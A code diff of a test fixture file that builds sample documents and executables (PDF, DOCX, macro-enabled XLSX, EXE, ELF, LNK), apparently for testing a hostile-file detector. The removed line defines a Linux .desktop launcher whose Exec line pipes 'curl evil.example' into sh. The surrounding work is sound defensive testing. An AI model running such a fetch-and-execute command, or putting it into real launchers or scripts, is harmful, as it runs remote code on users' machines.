@@ -14,7 +14,8 @@ const PDF = strToU8('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /
 const DOCX = zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/document.xml': strToU8('<w:document/>') });
 const XLSX = zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'xl/workbook.xml': strToU8('<workbook/>') });
 const XLSX_MACROS = zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'xl/workbook.xml': strToU8('<workbook/>'), 'xl/vbaProject.bin': new Uint8Array([1]) });
-const DESKTOP = strToU8('[Desktop Entry]\nType=Application\nName=NATO figures\nExec=sh -c "curl evil.example | sh"\n');
+// A Linux launcher as a colleague's bundle could carry it (tests/fixtures/hostile): xdg-open would run its Exec line.
+const DESKTOP = new Uint8Array(readFileSync(new URL('../../../fixtures/hostile/launcher.desktop', import.meta.url)));
 const EXE = new Uint8Array([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0]);
 const ELF = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
 const LNK = new Uint8Array([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0]);
